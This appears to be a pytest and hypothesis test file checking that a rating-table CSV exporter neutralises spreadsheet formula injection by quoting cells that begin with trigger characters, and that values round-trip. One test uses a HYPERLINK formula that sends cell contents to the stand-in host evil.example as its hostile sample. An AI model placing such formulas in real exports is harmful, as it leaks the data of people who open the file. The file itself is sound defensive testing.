"""app.adapters.rating_csv: text cells a spreadsheet would run as a formula are exported with a
leading ``'``; numbers stay numbers; what is exported reads back the same."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from app.adapters.files import dump_rating_table_csv, parse_rating_table_csv
from app.adapters.rating_csv import FORMULA_TRIGGERS
from app.domain.ratings import Measurement, Rating, RatingTable

_TRIGGERS = ["=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20"]


def _table(reason: str = "", source: str = "", machine: str | None = None, b_ns: float | None = None,
           method: str | None = None) -> RatingTable:
    measurement = Measurement(machine=machine, method=method,
                              **({"a_ns_per_byte": 0.25, "b_ns": b_ns} if b_ns is not None else {}))
    rating = Rating(algorithm="aes256", confidentiality=10, performance=4.5, source=source, reason=reason,
                    measurement=measurement if measurement.as_dict() else None)
    return RatingTable.of("formulas", [rating])


def _cells(text: str) -> dict[str, str]:
    return next(csv.DictReader(io.StringIO(text, newline="")))


def test_the_triggers_are_the_documented_ones() -> None:
    assert set(_TRIGGERS) == set(FORMULA_TRIGGERS)


@pytest.mark.parametrize("trigger", _TRIGGERS, ids=[f"U+{ord(t):04X}" for t in _TRIGGERS])
def test_a_text_cell_starting_with_a_formula_trigger_is_exported_behind_a_quote(trigger: str) -> None:
    formula = f'{trigger}HYPERLINK("http://evil.example/?"&A1,"click")'
    text = dump_rating_table_csv(_table(reason=formula, source=formula, machine=formula, method=formula))
    cells = _cells(text)
    for column in ("reason", "source", "machine", "method"):
        assert cells[column] == "'" + formula, column
    back = parse_rating_table_csv(text, name="formulas")
    rating = back.ratings["aes256"]
    assert rating.reason == rating.source == formula
    assert rating.measurement is not None
    assert rating.measurement.machine == rating.measurement.method == formula


def test_a_negative_number_stays_a_number_and_round_trips() -> None:
    table = _table(b_ns=-0.5)
    text = dump_rating_table_csv(table)
    assert _cells(text)["b_ns"] == "-0.5"
    assert parse_rating_table_csv(text, name="formulas") == table


def test_text_that_only_looks_like_a_number_is_still_quoted() -> None:
    text = dump_rating_table_csv(_table(reason="-1+1"))
    assert _cells(text)["reason"] == "'-1+1"
    assert parse_rating_table_csv(text, name="formulas").ratings["aes256"].reason == "-1+1"


@pytest.mark.parametrize("value", ["'=1+1", "''-2", "'", "'plain", "it's =fine", " =1"])
def test_quotes_written_by_hand_round_trip(value: str) -> None:
    table = _table(reason=value)
    assert parse_rating_table_csv(dump_rating_table_csv(table), name="formulas") == table


def test_an_imported_quote_before_a_trigger_is_the_guard_and_is_dropped() -> None:
    text = "algorithm,confidentiality,performance,reason\naes256,10,4.5,'=SUM(A1)\n"
    assert parse_rating_table_csv(text, name="hand").ratings["aes256"].reason == "=SUM(A1)"


def test_a_quote_before_anything_else_is_kept_on_import() -> None:
    text = "algorithm,confidentiality,performance,reason\naes256,10,4.5,'quoted\n"
    assert parse_rating_table_csv(text, name="hand").ratings["aes256"].reason == "'quoted"


_RISKY = st.text(alphabet=st.sampled_from(["'", "a", " ", *_TRIGGERS]), max_size=8)


@settings(max_examples=300, deadline=None)
@given(reason=_RISKY, machine=_RISKY)
def test_every_exported_text_cell_is_safe_and_reads_back_the_same(reason: str, machine: str) -> None:
    table = _table(reason=reason, machine=machine or None)
    text = dump_rating_table_csv(table)
    for row in csv.reader(io.StringIO(text, newline="")):
        for cell in row:
            assert cell[:1] not in FORMULA_TRIGGERS, row
    assert parse_rating_table_csv(text, name="formulas") == table
